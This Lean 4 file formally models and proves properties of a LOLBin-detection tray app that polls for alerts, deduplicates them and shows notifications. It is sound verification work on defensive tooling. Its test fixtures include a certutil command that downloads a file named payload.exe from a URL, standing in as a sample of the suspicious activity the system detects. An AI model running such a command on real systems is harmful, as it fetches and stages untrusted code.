import Mathlib

/-!
Shallow embedding of the LOLBin tray application
(src/lolbin-detection-system/tray-app/lolbin_tray_app.py).

The program polls a backend for alert records, deduplicates them by a
string key derived from process_id and timestamp, and emits desktop
notifications. The embedding models one poll cycle (check_for_alerts)
as a pure function from the fetch outcome, the current wall-clock
instant, and the mutable global state (seen_alerts, last_check_time)
to a cycle result: the new state, the list of show_notification
invocations (their arguments), the console log output, and the value
returned to the caller. Sequences of poll cycles (the background timer
loop alert_check_thread) are modelled by folding this function over a
list of fetch outcomes.
-/

namespace LolbinTray

/-- Python exception values that can arise inside the try block of
check_for_alerts: a KeyError from indexing a dict with a missing key,
a requests transport failure, or a JSON decoding failure from
response.json on a malformed body. -/
inductive PyError where
  | keyError (key : String)
  | requestException (msg : String)
  | jsonDecodeError (msg : String)
  deriving DecidableEq

/-- The textual rendering of an exception, as interpolated into the
console message printed by the except clause. -/
def PyError.message : PyError → String
  | .keyError k => "KeyError: " ++ k
  | .requestException m => m
  | .jsonDecodeError m => m

/-- One alert record of the JSON array returned by the backend. Every
field may be absent; the code reads process_id by dict indexing and
all other fields via dict.get with a default. -/
structure Alert where
  process_id : Option String
  timestamp : Option String
  executable_path : Option String
  command_line : Option String
  reason : Option String
  deriving DecidableEq

/-- The body of an HTTP response: response.json either raises (body
not valid JSON) or yields a list of alert records. -/
inductive Body where
  | malformed (msg : String)
  | records (alerts : List Alert)
  deriving DecidableEq

/-- The outcome of requests.get: a raised transport exception, or a
response carrying a status code and a body. -/
inductive FetchResult where
  | failure (msg : String)
  | response (status : Nat) (body : Body)
  deriving DecidableEq

/-- The mutable module-level state of the tray app: the seen_alerts
set (modelled as a list of keys with membership as the set predicate)
and last_check_time (wall-clock instants modelled as naturals). -/
structure TrayState where
  seen_alerts : List String
  last_check_time : Nat
  deriving DecidableEq

/-- The arguments of one show_notification invocation: title, message
body, and the optional alert identity used for the deep link. -/
structure Notification where
  title : String
  message : String
  alert_id : Option String
  deriving DecidableEq

/-- Python str.split with a single-character separator, on the
character list of the string: yields the maximal (possibly empty)
runs between separator occurrences, never the empty list of parts. -/
def pySplit (sep : Char) : List Char → List (List Char)
  | [] => [[]]
  | c :: cs =>
    match pySplit sep cs with
    | [] => [[]]
    | g :: gs => if c = sep then [] :: g :: gs else (c :: g) :: gs

/-- The expression alert.get "executable_path" .split backslash [-1]:
the last backslash-separated component of a path. -/
def lastComponent (s : String) : String :=
  String.mk ((pySplit '\\' s.data).getLastD [])

/-- Python string slicing s[:n]: the first n characters. -/
def pyTake (n : Nat) (s : String) : String :=
  String.mk (s.data.take n)

/-- The notification title built in check_for_alerts for a process
name extracted from the executable path. -/
def notifTitle (process : String) : String :=
  "LOLBin Alert: " ++ process

/-- The notification body built in check_for_alerts: the reason, a
blank line, and the command line truncated to 50 characters with an
ellipsis appended exactly when the command is longer than 50. -/
def notifBody (reason command : String) : String :=
  reason ++ "\n\nCommand: " ++ pyTake 50 command ++
    (if 50 < command.length then "..." else "")

/-- The derived alert identity for a process_id and timestamp string:
the f-string alert-{pid}-{ts}. -/
def alertIdOf (pid ts : String) : String :=
  "alert-" ++ pid ++ "-" ++ ts

/-- The for-loop of check_for_alerts over the list of alert records.
Returns the seen set at the point the loop finished or aborted, the
show_notification invocations made so far in order, and the exception
that aborted the loop if any. Indexing alert with a missing
process_id key raises KeyError at that record, leaving earlier
insertions and notifications in place and processing no later
record. -/
def processAlerts (st : List String) : List Alert →
    List String × List Notification × Option PyError
  | [] => (st, [], none)
  | a :: rest =>
    match a.process_id with
    | none => (st, [], some (.keyError "process_id"))
    | some pid =>
      let alert_id := alertIdOf pid (a.timestamp.getD "")
      if alert_id ∈ st then processAlerts st rest
      else
        let process := lastComponent (a.executable_path.getD "")
        let reason := a.reason.getD
          ("Suspicious " ++ process ++ " execution detected")
        let command := a.command_line.getD ""
        let n : Notification :=
          ⟨notifTitle process, notifBody reason command, some alert_id⟩
        let r := processAlerts (st ++ [alert_id]) rest
        (r.1, n :: r.2.1, r.2.2)

/-- The body of the try block of check_for_alerts: dispatch on the
fetch outcome, parse the body when the status is 200, run the record
loop, and update last_check_time only when the loop completed without
raising. The third component is the exception propagating out of the
try block, if any. -/
def tryBody (fetch : FetchResult) (now : Nat) (st : TrayState) :
    TrayState × List Notification × Option PyError :=
  match fetch with
  | .failure msg => (st, [], some (.requestException msg))
  | .response status body =>
    if status = 200 then
      match body with
      | .malformed msg => (st, [], some (.jsonDecodeError msg))
      | .records alerts =>
        match processAlerts st.seen_alerts alerts with
        | (seen, ns, none) =>
          ({ seen_alerts := seen, last_check_time := now }, ns, none)
        | (seen, ns, some e) =>
          ({ st with seen_alerts := seen }, ns, some e)
    else (st, [], none)

/-- The full observable result of one check_for_alerts call: the new
module state, the show_notification invocations, the console output,
and the returned boolean. -/
structure CycleResult where
  state : TrayState
  notifications : List Notification
  log : List String
  retval : Bool
  deriving DecidableEq

/-- check_for_alerts: run the try block; the except clause catches
every exception, prints the error message to the console, and the
function returns True in all cases. -/
def checkForAlerts (fetch : FetchResult) (now : Nat) (st : TrayState) :
    CycleResult :=
  match tryBody fetch now st with
  | (st1, ns, none) =>
    { state := st1, notifications := ns, log := [], retval := true }
  | (st1, ns, some e) =>
    { state := st1, notifications := ns,
      log := ["Error checking for alerts: " ++ e.message],
      retval := true }

/-- The background timer loop alert_check_thread, run for a finite
prefix of its infinite schedule: each list element is one tick, given
as the fetch outcome of that cycle and the wall-clock instant of the
cycle. Returns the final state and all notifications emitted, in
order. -/
def runCycles (st : TrayState) :
    List (FetchResult × Nat) → TrayState × List Notification
  | [] => (st, [])
  | (f, now) :: rest =>
    let r := checkForAlerts f now st
    let rec1 := runCycles r.state rest
    (rec1.1, r.notifications ++ rec1.2)

/-- The number of show_notification invocations in a list that carry
a given alert identity. -/
def countKey (k : String) : List Notification → Nat
  | [] => 0
  | n :: ns => (if n.alert_id = some k then 1 else 0) + countKey k ns

/-- A poll cycle is fully successful exactly when the fetch returned
status 200 with a well-formed JSON array and the record loop raised
no exception. -/
def pollSucceeded (fetch : FetchResult) (st : TrayState) : Bool :=
  match fetch with
  | .failure _ => false
  | .response status body =>
    if status = 200 then
      match body with
      | .malformed _ => false
      | .records alerts => (processAlerts st.seen_alerts alerts).2.2.isNone
    else false

/-- The module-level initial state: an empty seen_alerts set and the
import-time last_check_time instant. -/
def initialState (t0 : Nat) : TrayState :=
  { seen_alerts := [], last_check_time := t0 }

/-- The certutil alert record of the scenario in the spec. -/
def certutilAlert : Alert :=
  ⟨some "1234", some "t1", some "C:\\Windows\\System32\\certutil.exe",
   some "certutil -urlcache -f http://x -split -f payload.exe",
   some "Suspicious certutil execution"⟩

/-- A record whose derived key is alert-1-2-3 via process_id 1-2 and
timestamp 3. -/
def collideA : Alert :=
  ⟨some "1-2", some "3", some "C:\\a.exe", some "run a", some "reason a"⟩

/-- A distinct record whose derived key is also alert-1-2-3, via
process_id 1 and timestamp 2-3. -/
def collideB : Alert :=
  ⟨some "1", some "2-3", some "C:\\b.exe", some "run b", some "reason b"⟩

/-- A record with no process_id key but all other fields present. -/
def noPidAlert : Alert :=
  ⟨none, some "t", some "C:\\p.exe", some "cmd", some "why"⟩

/-- A 52-character command line, used to exercise truncation. -/
def longCmd : String :=
  "certutil -urlcache -f http://x -split -f payload.exe"

end LolbinTray

namespace LolbinTray

theorem countKey_append (k : String) (l1 l2 : List Notification) :
    countKey k (l1 ++ l2) = countKey k l1 + countKey k l2 := by
  induction l1 with
  | nil => simp [countKey]
  | cons n ns ih => simp [countKey, ih]; omega

theorem string_append_empty (s : String) : s ++ "" = s := by
  cases s with
  | mk data =>
    show String.mk (data ++ []) = String.mk data
    rw [List.append_nil]

theorem processAlerts_seen_mono (x : String) :
    ∀ (alerts : List Alert) (st : List String), x ∈ st →
      x ∈ (processAlerts st alerts).1 := by
  intro alerts
  induction alerts with
  | nil => intro st hx; simpa [processAlerts] using hx
  | cons a rest ih =>
    intro st hx
    rcases a with ⟨pid?, ts, path, cmd, rsn⟩
    cases pid? with
    | none => simpa [processAlerts] using hx
    | some pid =>
      simp only [processAlerts]
      by_cases hmem : alertIdOf pid (ts.getD "") ∈ st
      · rw [if_pos hmem]
        exact ih st hx
      · rw [if_neg hmem]
        exact ih _ (List.mem_append_left _ hx)

theorem processAlerts_key_bound (k : String) :
    ∀ (alerts : List Alert) (st : List String),
      (if k ∈ st then 1 else 0) + countKey k (processAlerts st alerts).2.1 ≤
        (if k ∈ (processAlerts st alerts).1 then 1 else 0) := by
  intro alerts
  induction alerts with
  | nil => intro st; simp [processAlerts, countKey]
  | cons a rest ih =>
    intro st
    rcases a with ⟨pid?, ts, path, cmd, rsn⟩
    cases pid? with
    | none => simp [processAlerts, countKey]
    | some pid =>
      simp only [processAlerts]
      by_cases hmem : alertIdOf pid (ts.getD "") ∈ st
      · rw [if_pos hmem]
        exact ih st
      · rw [if_neg hmem]
        simp only [countKey, Option.some.injEq]
        have h2 := ih (st ++ [alertIdOf pid (ts.getD "")])
        by_cases hk : alertIdOf pid (ts.getD "") = k
        · subst hk
          have hstk : alertIdOf pid (ts.getD "") ∈
              st ++ [alertIdOf pid (ts.getD "")] := by simp
          rw [if_pos hstk] at h2
          rw [if_neg hmem, if_pos rfl]
          by_cases hr : alertIdOf pid (ts.getD "") ∈
              (processAlerts (st ++ [alertIdOf pid (ts.getD "")]) rest).1
          · rw [if_pos hr] at h2 ⊢
            omega
          · rw [if_neg hr] at h2
            exact absurd h2 (by omega)
        · rw [if_neg hk]
          have hiff : (k ∈ st ++ [alertIdOf pid (ts.getD "")]) ↔ k ∈ st := by
            constructor
            · intro h
              rcases List.mem_append.mp h with h1 | h1
              · exact h1
              · exact absurd (List.mem_singleton.mp h1).symm hk
            · intro h
              exact List.mem_append_left _ h
          by_cases hst : k ∈ st
          · rw [if_pos (hiff.mpr hst)] at h2
            rw [if_pos hst]
            omega
          · rw [if_neg (fun h => hst (hiff.mp h))] at h2
            rw [if_neg hst]
            omega

theorem checkForAlerts_key_bound (k : String) (f : FetchResult) (now : Nat)
    (st : TrayState) :
    (if k ∈ st.seen_alerts then 1 else 0) +
        countKey k (checkForAlerts f now st).notifications ≤
      (if k ∈ (checkForAlerts f now st).state.seen_alerts then 1 else 0) := by
  cases f with
  | failure msg => simp [checkForAlerts, tryBody, countKey]
  | response status body =>
    by_cases hs : status = 200
    · subst hs
      cases body with
      | malformed msg => simp [checkForAlerts, tryBody, countKey]
      | records alerts =>
        have h := processAlerts_key_bound k alerts st.seen_alerts
        rcases hpa : processAlerts st.seen_alerts alerts with ⟨seen, rest⟩
        rcases rest with ⟨ns, err⟩
        rw [hpa] at h
        cases err <;> simpa [checkForAlerts, tryBody, hpa] using h
    · simp [checkForAlerts, tryBody, hs, countKey]

theorem checkForAlerts_seen_mono (x : String) (f : FetchResult) (now : Nat)
    (st : TrayState) (hx : x ∈ st.seen_alerts) :
    x ∈ (checkForAlerts f now st).state.seen_alerts := by
  cases f with
  | failure msg => simpa [checkForAlerts, tryBody] using hx
  | response status body =>
    by_cases hs : status = 200
    · subst hs
      cases body with
      | malformed msg => simpa [checkForAlerts, tryBody] using hx
      | records alerts =>
        have h := processAlerts_seen_mono x alerts st.seen_alerts hx
        rcases hpa : processAlerts st.seen_alerts alerts with ⟨seen, rest⟩
        rcases rest with ⟨ns, err⟩
        rw [hpa] at h
        cases err <;> simpa [checkForAlerts, tryBody, hpa] using h
    · simpa [checkForAlerts, tryBody, hs] using hx

theorem runCycles_key_bound (k : String) :
    ∀ (inputs : List (FetchResult × Nat)) (st : TrayState),
      (if k ∈ st.seen_alerts then 1 else 0) +
        countKey k (runCycles st inputs).2 ≤ 1 := by
  intro inputs
  induction inputs with
  | nil =>
    intro st
    by_cases h : k ∈ st.seen_alerts <;> simp [runCycles, countKey, h]
  | cons p rest ih =>
    intro st
    rcases p with ⟨f, now⟩
    simp only [runCycles, countKey_append]
    have h1 := checkForAlerts_key_bound k f now st
    have h2 := ih (checkForAlerts f now st).state
    by_cases ha : k ∈ st.seen_alerts <;>
      by_cases hb : k ∈ (checkForAlerts f now st).state.seen_alerts <;>
        simp only [ha, hb, if_pos, if_neg, if_true, if_false] at h1 h2 ⊢ <;>
          omega

theorem runCycles_seen_mono (x : String) :
    ∀ (inputs : List (FetchResult × Nat)) (st : TrayState),
      x ∈ st.seen_alerts → x ∈ (runCycles st inputs).1.seen_alerts := by
  intro inputs
  induction inputs with
  | nil => intro st hx; simpa [runCycles] using hx
  | cons p rest ih =>
    intro st hx
    rcases p with ⟨f, now⟩
    simp only [runCycles]
    exact ih _ (checkForAlerts_seen_mono x f now st hx)

theorem processAlerts_ok :
    ∀ (alerts : List Alert) (st : List String),
      (∀ b ∈ alerts, (Alert.process_id b).isSome) →
      (processAlerts st alerts).2.2 = none := by
  intro alerts
  induction alerts with
  | nil => intro st _; simp [processAlerts]
  | cons a rest ih =>
    intro st h
    rcases a with ⟨pid?, ts, path, cmd, rsn⟩
    cases pid? with
    | none =>
      have := h _ (List.mem_cons_self _ _)
      simp at this
    | some pid =>
      simp only [processAlerts]
      have hrest : ∀ b ∈ rest, (Alert.process_id b).isSome := by
        intro b hb
        exact h b (List.mem_cons_of_mem _ hb)
      by_cases hmem : alertIdOf pid (ts.getD "") ∈ st
      · rw [if_pos hmem]
        exact ih st hrest
      · rw [if_neg hmem]
        exact ih _ hrest

theorem processAlerts_append_ok (l2 : List Alert) :
    ∀ (l1 : List Alert) (st : List String),
      (processAlerts st l1).2.2 = none →
      processAlerts st (l1 ++ l2) =
        ((processAlerts (processAlerts st l1).1 l2).1,
         (processAlerts st l1).2.1 ++
           (processAlerts (processAlerts st l1).1 l2).2.1,
         (processAlerts (processAlerts st l1).1 l2).2.2) := by
  intro l1
  induction l1 with
  | nil => intro st _; simp [processAlerts]
  | cons a rest ih =>
    intro st hok
    rcases a with ⟨pid?, ts, path, cmd, rsn⟩
    cases pid? with
    | none => simp [processAlerts] at hok
    | some pid =>
      simp only [processAlerts, List.cons_append] at hok ⊢
      by_cases hmem : alertIdOf pid (ts.getD "") ∈ st
      · simp only [if_pos hmem] at hok ⊢
        exact ih st hok
      · simp only [if_neg hmem] at hok ⊢
        have := ih (st ++ [alertIdOf pid (ts.getD "")]) hok
        simp [this]

/-- C1: deduplication is idempotent at-most-once. Across any finite
sequence of poll cycles, starting from any state, the number of
show_notification invocations carrying the alert identity derived
from a given process_id and timestamp is at most one: the first
occurrence inserts the key into seen_alerts and every later record
with the same process_id and timestamp is skipped. -/
theorem dedup_at_most_once (st : TrayState)
    (inputs : List (FetchResult × Nat)) (pid ts : String) :
    countKey (alertIdOf pid ts) (runCycles st inputs).2 ≤ 1 := by
  have h := runCycles_key_bound (alertIdOf pid ts) inputs st
  by_cases hm : alertIdOf pid ts ∈ st.seen_alerts
  · rw [if_pos hm] at h
    omega
  · rw [if_neg hm] at h
    omega

/-- C2 counterexample: a record in an HTTP 200 response whose
process_id key is absent does not default to an empty string; dict
indexing raises KeyError, so the unseen record is never notified and
the cycle aborts with the error printed to the console, refuting the
claim that a missing field never aborts processing of the record. -/
theorem missing_process_id_aborts :
    (checkForAlerts (.response 200 (.records [noPidAlert])) 5
        (initialState 0)).notifications = [] ∧
    (checkForAlerts (.response 200 (.records [noPidAlert])) 5
        (initialState 0)).log =
      ["Error checking for alerts: KeyError: process_id"] := by
  decide

/-- C2 amended: for a record whose process_id is present, each of the
other fields may be absent without aborting processing: timestamp,
executable_path and command_line default to the empty string, reason
defaults to the derived message, and the unseen record is notified
with the identity computed from process_id and the defaulted
timestamp. A record with no process_id instead raises KeyError and
aborts the cycle. -/
theorem optional_fields_default (pid : String)
    (ts path cmd rsn : Option String) (now : Nat) (st : TrayState)
    (h : alertIdOf pid (ts.getD "") ∉ st.seen_alerts) :
    (checkForAlerts (.response 200
        (.records [⟨some pid, ts, path, cmd, rsn⟩])) now st).notifications =
      [⟨notifTitle (lastComponent (path.getD "")),
        notifBody (rsn.getD ("Suspicious " ++ lastComponent (path.getD "") ++
          " execution detected")) (cmd.getD ""),
        some (alertIdOf pid (ts.getD ""))⟩] ∧
    (checkForAlerts (.response 200
        (.records [⟨some pid, ts, path, cmd, rsn⟩])) now st).log = [] := by
  constructor <;> simp [checkForAlerts, tryBody, processAlerts, h]

/-- Witness for the amended C2 at a record with only process_id
present: all optional fields absent, state initial. -/
theorem optional_fields_default_witness :
    (checkForAlerts (.response 200
        (.records [⟨some "7", none, none, none, none⟩])) 4
        (initialState 0)).notifications =
      [⟨notifTitle (lastComponent ((none : Option String).getD "")),
        notifBody ((none : Option String).getD ("Suspicious " ++
          lastComponent ((none : Option String).getD "") ++
          " execution detected")) ((none : Option String).getD ""),
        some (alertIdOf "7" ((none : Option String).getD ""))⟩] ∧
    (checkForAlerts (.response 200
        (.records [⟨some "7", none, none, none, none⟩])) 4
        (initialState 0)).log = [] :=
  optional_fields_default "7" none none none none 4 (initialState 0)
    (by decide)

/-- C3: check_for_alerts never raises to its caller. For every fetch
outcome, instant and state it returns normally with the value True,
and whenever an exception propagates out of the try block the except
clause catches it and records it on the console log instead. -/
theorem check_for_alerts_never_raises (f : FetchResult) (now : Nat)
    (st : TrayState) (e : PyError) :
    (checkForAlerts f now st).retval = true ∧
    ((tryBody f now st).2.2 = some e →
      (checkForAlerts f now st).log =
        ["Error checking for alerts: " ++ e.message]) := by
  rcases htb : tryBody f now st with ⟨st1, rest⟩
  rcases rest with ⟨ns, err⟩
  constructor
  · cases err <;> simp [checkForAlerts, htb]
  · intro he
    cases err with
    | none => exact absurd he (by simp)
    | some e2 =>
      have he2 : e2 = e := by simpa using he
      subst he2
      simp [checkForAlerts, htb]

/-- Witness for C3 at a transport failure: the call returns True and
the exception text appears on the console log. -/
theorem check_for_alerts_never_raises_witness :
    (checkForAlerts (.failure "conn") 3 (initialState 0)).retval = true ∧
    ((tryBody (.failure "conn") 3 (initialState 0)).2.2 =
        some (.requestException "conn") →
      (checkForAlerts (.failure "conn") 3 (initialState 0)).log =
        ["Error checking for alerts: " ++
          PyError.message (.requestException "conn")]) :=
  check_for_alerts_never_raises (.failure "conn") 3 (initialState 0)
    (.requestException "conn")

/-- C4: the notification body renders the command line truncated to
50 characters. When the command is strictly longer than 50, the body
is the reason part followed by exactly the first 50 characters of the
command and the ellipsis marker; when it has 50 or fewer characters,
the body ends with the command unmodified and nothing is appended. -/
theorem notif_body_truncation (reason command : String) :
    (50 < command.length →
      notifBody reason command =
        reason ++ "\n\nCommand: " ++ pyTake 50 command ++ "...") ∧
    (command.length ≤ 50 →
      notifBody reason command = reason ++ "\n\nCommand: " ++ command) := by
  constructor
  · intro h
    simp [notifBody, h]
  · intro h
    have hlt : ¬ 50 < command.length := not_lt.mpr h
    have htake : pyTake 50 command = command := by
      unfold pyTake
      have hdl : command.data.length ≤ 50 := h
      rw [List.take_of_length_le hdl]
    rw [notifBody, if_neg hlt, htake, string_append_empty]

/-- Witness for C4: the 52-character command is truncated with the
marker, a 2-character command is rendered unmodified. -/
theorem notif_body_truncation_witness :
    (notifBody "why" longCmd =
      "why" ++ "\n\nCommand: " ++ pyTake 50 longCmd ++ "...") ∧
    (notifBody "why" "ls" = "why" ++ "\n\nCommand: " ++ "ls") :=
  ⟨(notif_body_truncation "why" longCmd).1 (by decide),
   (notif_body_truncation "why" "ls").2 (by decide)⟩

/-- C5: last_check_time is advanced to the current instant exactly
when the poll cycle is fully successful (status 200, well-formed
JSON, no record aborting the loop); on every transport failure and
every non-success status it is left unchanged, so it records the
wall-clock time of the most recent successful poll. -/
theorem last_check_time_successful_only (f : FetchResult) (now : Nat)
    (st : TrayState) :
    (checkForAlerts f now st).state.last_check_time =
      if pollSucceeded f st then now else st.last_check_time := by
  cases f with
  | failure msg => simp [checkForAlerts, tryBody, pollSucceeded]
  | response status body =>
    by_cases hs : status = 200
    · subst hs
      cases body with
      | malformed msg => simp [checkForAlerts, tryBody, pollSucceeded]
      | records alerts =>
        rcases hpa : processAlerts st.seen_alerts alerts with ⟨seen, rest⟩
        rcases rest with ⟨ns, err⟩
        cases err <;> simp [checkForAlerts, tryBody, pollSucceeded, hpa]
    · simp [checkForAlerts, tryBody, pollSucceeded, hs]

/-- C6 counterexample: a non-success HTTP status produces no console
output at all — the status-code branch is silently skipped, refuting
the claim that check_for_alerts logs the failure on every non-success
status. -/
theorem non_success_status_not_logged :
    (checkForAlerts (.response 500 (.records [certutilAlert])) 7
        (initialState 0)).log = [] := by
  decide

/-- C6 amended: on a transport failure the error is logged to the
console; on a non-success HTTP status the cycle is skipped silently
with no log entry. In both cases no notification is emitted, the
seen-alerts set and last-check time are unchanged, and the function
returns True so the next attempt is the next scheduled tick. -/
theorem failed_cycle_no_effect (msg : String) (status : Nat)
    (body : Body) (now : Nat) (st : TrayState) :
    checkForAlerts (.failure msg) now st =
      { state := st, notifications := [],
        log := ["Error checking for alerts: " ++ msg], retval := true } ∧
    (status ≠ 200 →
      checkForAlerts (.response status body) now st =
        { state := st, notifications := [], log := [], retval := true }) := by
  constructor
  · rfl
  · intro h
    simp [checkForAlerts, tryBody, h]

/-- Witness for the amended C6 at a transport failure and at status
500. -/
theorem failed_cycle_no_effect_witness :
    checkForAlerts (.failure "down") 6 (initialState 0) =
      { state := initialState 0, notifications := [],
        log := ["Error checking for alerts: " ++ "down"],
        retval := true } ∧
    checkForAlerts (.response 500 (.malformed "oops")) 6 (initialState 0) =
      { state := initialState 0, notifications := [], log := [],
        retval := true } :=
  ⟨(failed_cycle_no_effect "down" 500 (.malformed "oops") 6
      (initialState 0)).1,
   (failed_cycle_no_effect "down" 500 (.malformed "oops") 6
      (initialState 0)).2 (by decide)⟩

/-- C7: the seen-alerts set grows monotonically. check_for_alerts is
the only operation touching seen_alerts and it only inserts, so over
any finite run of poll cycles every identity present at an earlier
point is still present at every later point. -/
theorem seen_alerts_monotone (st : TrayState)
    (inputs : List (FetchResult × Nat)) (x : String)
    (hx : x ∈ st.seen_alerts) :
    x ∈ (runCycles st inputs).1.seen_alerts :=
  runCycles_seen_mono x inputs st hx

/-- Witness for C7: an identity present before a failing cycle and a
successful cycle is still present afterwards. -/
theorem seen_alerts_monotone_witness :
    "alert-9-t" ∈ (runCycles
        { seen_alerts := ["alert-9-t"], last_check_time := 0 }
        [(.failure "down", 1),
         (.response 200 (.records [certutilAlert]), 2)]).1.seen_alerts :=
  seen_alerts_monotone
    { seen_alerts := ["alert-9-t"], last_check_time := 0 }
    [(.failure "down", 1), (.response 200 (.records [certutilAlert]), 2)]
    "alert-9-t" (by decide)

/-- C8: the certutil scenario. The single-record response produces
exactly one notification, its title is LOLBin Alert: certutil.exe,
that title is the fixed prefix followed by the last
backslash-separated component of the executable path, and a second
poll returning the identical response produces zero further
notifications. -/
theorem certutil_scenario :
    ((checkForAlerts (.response 200 (.records [certutilAlert])) 1
        (initialState 0)).notifications.map Notification.title) =
      ["LOLBin Alert: certutil.exe"] ∧
    notifTitle (lastComponent "C:\\Windows\\System32\\certutil.exe") =
      "LOLBin Alert: " ++ "certutil.exe" ∧
    (checkForAlerts (.response 200 (.records [certutilAlert])) 2
        (checkForAlerts (.response 200 (.records [certutilAlert])) 1
          (initialState 0)).state).notifications = [] := by
  decide

/-- C9: the alert identity derivation is not injective in the
process_id and timestamp pair. The two distinct records collideA
(process_id 1-2, timestamp 3) and collideB (process_id 1, timestamp
2-3) derive the same key alert-1-2-3, so when both arrive only the
first is notified and the second is deduplicated against it despite
being a different alert. -/
theorem alert_id_collision :
    collideA ≠ collideB ∧
    alertIdOf "1-2" "3" = alertIdOf "1" "2-3" ∧
    ((processAlerts [] [collideA, collideB]).2.1.map
        Notification.title) = ["LOLBin Alert: a.exe"] ∧
    countKey "alert-1-2-3" (processAlerts [] [collideA, collideB]).2.1 = 1 := by
  decide

/-- C10: a poll cycle is not atomic on error. If every record before
position k has a process_id and the record at position k lacks one,
then the HTTP 200 cycle ends with exactly the records before k
inserted into seen_alerts and notified, no later record processed,
last_check_time not advanced, and the KeyError printed to the
console. -/
theorem cycle_not_atomic_on_error (pre : List Alert) (a : Alert)
    (post : List Alert) (st : TrayState) (now : Nat)
    (h1 : ∀ b ∈ pre, (Alert.process_id b).isSome)
    (h2 : a.process_id = none) :
    (checkForAlerts (.response 200 (.records (pre ++ a :: post))) now
        st).state.seen_alerts = (processAlerts st.seen_alerts pre).1 ∧
    (checkForAlerts (.response 200 (.records (pre ++ a :: post))) now
        st).notifications = (processAlerts st.seen_alerts pre).2.1 ∧
    (checkForAlerts (.response 200 (.records (pre ++ a :: post))) now
        st).state.last_check_time = st.last_check_time ∧
    (checkForAlerts (.response 200 (.records (pre ++ a :: post))) now
        st).log = ["Error checking for alerts: KeyError: process_id"] := by
  have hok := processAlerts_ok pre st.seen_alerts h1
  have happ := processAlerts_append_ok (a :: post) pre st.seen_alerts hok
  have hcons : processAlerts (processAlerts st.seen_alerts pre).1 (a :: post)
      = ((processAlerts st.seen_alerts pre).1, [],
         some (.keyError "process_id")) := by
    rcases a with ⟨pid?, ts, path, cmd, rsn⟩
    cases pid? with
    | none => rfl
    | some pid => simp at h2
  rw [hcons] at happ
  simp only [List.append_nil] at happ
  refine ⟨?_, ?_, ?_, ?_⟩ <;> simp [checkForAlerts, tryBody, happ,
    PyError.message]

/-- Witness for C10: one good record, then a record with no
process_id, then another good record never reached. -/
theorem cycle_not_atomic_on_error_witness :
    (checkForAlerts (.response 200
        (.records ([collideA] ++ noPidAlert :: [collideB]))) 9
        (initialState 0)).state.seen_alerts =
      (processAlerts (initialState 0).seen_alerts [collideA]).1 ∧
    (checkForAlerts (.response 200
        (.records ([collideA] ++ noPidAlert :: [collideB]))) 9
        (initialState 0)).notifications =
      (processAlerts (initialState 0).seen_alerts [collideA]).2.1 ∧
    (checkForAlerts (.response 200
        (.records ([collideA] ++ noPidAlert :: [collideB]))) 9
        (initialState 0)).state.last_check_time =
      (initialState 0).last_check_time ∧
    (checkForAlerts (.response 200
        (.records ([collideA] ++ noPidAlert :: [collideB]))) 9
        (initialState 0)).log =
      ["Error checking for alerts: KeyError: process_id"] :=
  cycle_not_atomic_on_error [collideA] noPidAlert [collideB]
    (initialState 0) 9 (by decide) (by decide)

end LolbinTray
